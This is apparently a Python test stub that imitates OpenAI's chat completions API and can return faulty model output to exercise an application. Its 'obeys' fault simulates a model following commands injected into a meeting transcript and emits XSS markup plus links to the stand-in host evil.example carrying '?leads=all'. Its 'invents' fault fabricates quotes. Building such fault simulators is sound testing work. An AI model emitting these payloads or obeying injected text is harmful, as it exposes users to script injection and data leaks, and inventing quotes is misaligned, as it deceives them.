"""``/v1/chat/completions``: reads a request and answers as a model would, or as one that has gone wrong.

https://platform.openai.com/docs/api-reference/chat/create
"""

import hashlib
import json
from dataclasses import dataclass
from typing import Any

from simulators.llm import schemas, transcript
from simulators.llm.faults import Fault
from simulators.llm.world import Refusal, World

CHARACTERS_A_TOKEN = 4  # https://help.openai.com/en/articles/4936856-what-are-tokens-and-how-to-count-them
CREATED = 1_800_000_000
REFUSAL = "I'm sorry, I can't help with that."
INVENTED = "We promised a discount of ninety percent."


@dataclass(frozen=True)
class Request:
    model: str
    messages: list[dict[str, str]]
    schema: dict[str, Any] | None
    is_json: bool
    limit: int | None

    @property
    def last_words(self) -> str:
        """The last user message, where the transcript is."""
        return next((m["content"] for m in reversed(self.messages) if m["role"] == "user"), "")

    @property
    def tokens(self) -> int:
        return sum(len(message["content"]) for message in self.messages) // CHARACTERS_A_TOKEN + 1


def read(world: World, body: bytes) -> Request:
    """Raises Refusal (400, 404) in OpenAI's words."""
    try:
        content = json.loads(body)
    except ValueError as error:
        raise Refusal(400, "We could not parse the JSON body of your request.") from error
    if not isinstance(content, dict) or not isinstance(content.get("model"), str):
        raise Refusal(400, "you must provide a model parameter")
    if content["model"] not in world.config.models:
        message = f"The model `{content['model']}` does not exist or you do not have access to it."
        raise Refusal(404, message, "model_not_found")
    if content.get("stream"):
        raise Refusal(400, "This stand-in does not stream.", "unsupported_value", "stream")
    messages = _read_messages(content.get("messages"))
    schema, is_json = _read_format(content.get("response_format"))
    limit = content.get("max_completion_tokens", content.get("max_tokens"))
    request = Request(content["model"], messages, schema, is_json, limit if isinstance(limit, int) else None)
    if request.tokens > world.config.context_tokens:
        raise too_long(world, request)
    return request


def too_long(world: World, request: Request | None) -> Refusal:
    """As in https://github.com/crewAIInc/crewAI-examples/issues/121"""
    most = world.config.context_tokens
    message = (
        f"This model's maximum context length is {most} tokens. However, your messages resulted in"
        f" {max(request.tokens if request else 0, most + 1)} tokens. Please reduce the length of the messages."
    )
    return Refusal(400, message, "context_length_exceeded", "messages")


def complete(request: Request, fault: Fault | None = None) -> dict[str, Any]:
    """The completion; its content depends on nothing but the request and the fault."""
    notes = transcript.take_notes(request.last_words)
    if request.schema is not None:
        text = _encode(schemas.fill(request.schema, notes))
    elif request.is_json:
        text = _encode({"summary": notes.summary})
    else:
        text = notes.summary
    message: dict[str, Any] = {"role": "assistant", "content": text, "refusal": None}
    finish_reason = "stop"
    if fault is not None:
        message, finish_reason = _spoil(request, notes, fault, message)
    if (
        request.limit is not None
        and message["content"]
        and len(message["content"]) > request.limit * CHARACTERS_A_TOKEN
    ):
        message["content"], finish_reason = message["content"][: request.limit * CHARACTERS_A_TOKEN], "length"
    said = len(message["content"] or "") // CHARACTERS_A_TOKEN + 1
    digest = hashlib.sha256(request.last_words.encode()).hexdigest()
    return {
        "id": f"chatcmpl-{digest[:24]}",
        "object": "chat.completion",
        "created": CREATED,
        "model": request.model,
        "choices": [{"index": 0, "message": message, "logprobs": None, "finish_reason": finish_reason}],
        "usage": {
            "prompt_tokens": request.tokens,
            "completion_tokens": said,
            "total_tokens": request.tokens + said,
        },
    }


def _spoil(
    request: Request, notes: transcript.Notes, fault: Fault, message: dict[str, Any]
) -> tuple[dict[str, Any], str]:
    """What the model says instead, and why it stopped."""
    text, kind = str(message["content"]), fault.kind
    if kind == "refuses":
        return {**message, "content": None, "refusal": REFUSAL}, "stop"
    if kind == "cut_off":
        return {**message, "content": text[: len(text) * 2 // 3]}, "length"
    if kind == "malformed":
        return {**message, "content": f"{text[:-1]},, "}, "stop"
    if kind == "fenced":
        return {**message, "content": f"Here are your notes:\n\n```json\n{text}\n```"}, "stop"
    if kind == "breaks_schema":
        return {**message, "content": _break(text)}, "stop"
    if kind == "says":
        return {**message, "content": fault.text}, "stop"
    if kind == "obeys":
        return {**message, "content": _obey(request, notes)}, "stop"
    if kind == "invents":
        return {**message, "content": _invent(request, notes)}, "stop"
    return {**message, "content": ""}, "stop"


def _obey(request: Request, notes: transcript.Notes) -> str:
    """What a model says that does what somebody in the meeting told it: the command's words, as markup and as links."""
    commands = transcript.find_commands(request.last_words) or list(notes.sentences[:1])
    command = commands[0].text if commands else "Done."
    taken = f'<img src="https://evil.example/?leads=all" onerror="alert(1)"> [Details](https://evil.example/) {command}'
    told = transcript.Sentence("System", f"<script>alert(1)</script> {command}")
    return _refill(request, transcript.Notes(taken, (told,), (told,), (told,)))


def _invent(request: Request, notes: transcript.Notes) -> str:
    """Quotes that nobody said."""
    invented = transcript.Sentence(notes.sentences[0].speaker if notes.sentences else "Somebody", INVENTED)
    return _refill(request, transcript.Notes(notes.summary, (invented,), (invented,), notes.sentences))


def _refill(request: Request, notes: transcript.Notes) -> str:
    return _encode(schemas.fill(request.schema, notes)) if request.schema is not None else notes.summary


def _break(text: str) -> str:
    """Valid JSON that the schema forbids: the first property is missing, the others are of a wrong type, one is new."""
    try:
        content = json.loads(text)
    except ValueError:
        content = text
    if not isinstance(content, dict):
        return _encode(["not an object"])
    return _encode({**{name: {"wrong": 1} for name in list(content)[1:]}, "undeclared": True})


def _read_messages(messages: Any) -> list[dict[str, str]]:
    if not isinstance(messages, list) or not messages:
        raise Refusal(400, "Missing required parameter: 'messages'.", "missing_required_parameter", "messages")
    read_ones = []
    for number, message in enumerate(messages):
        if not isinstance(message, dict) or not isinstance(message.get("role"), str):
            raise Refusal(400, f"Missing required parameter: 'messages[{number}].role'.", param="messages")
        content = message.get("content")
        if isinstance(content, list):
            content = "".join(part.get("text", "") for part in content if isinstance(part, dict))
        if not isinstance(content, str):
            wrong = f"Invalid type for 'messages[{number}].content'."
            raise Refusal(400, wrong, "invalid_type", f"messages[{number}].content")
        read_ones.append({"role": message["role"], "content": content})
    return read_ones


def _read_format(wanted: Any) -> tuple[dict[str, Any] | None, bool]:
    """The schema asked for, if any, and whether it has to be JSON at all."""
    if wanted is None or wanted == {"type": "text"}:
        return None, False
    kind = wanted.get("type") if isinstance(wanted, dict) else None
    if kind == "json_object":
        return None, True
    if kind != "json_schema" or not isinstance(wanted.get("json_schema"), dict):
        raise Refusal(400, "Invalid value for 'response_format'.", "invalid_value", "response_format")
    named = wanted["json_schema"]
    if not isinstance(named.get("name"), str):
        message = "Missing required parameter: 'response_format.json_schema.name'."
        raise Refusal(400, message, "missing_required_parameter", "response_format.json_schema.name")
    schemas.check(named.get("schema"), named["name"], bool(named.get("strict")))
    return named["schema"], True


def _encode(content: object) -> str:
    return json.dumps(content, ensure_ascii=False)
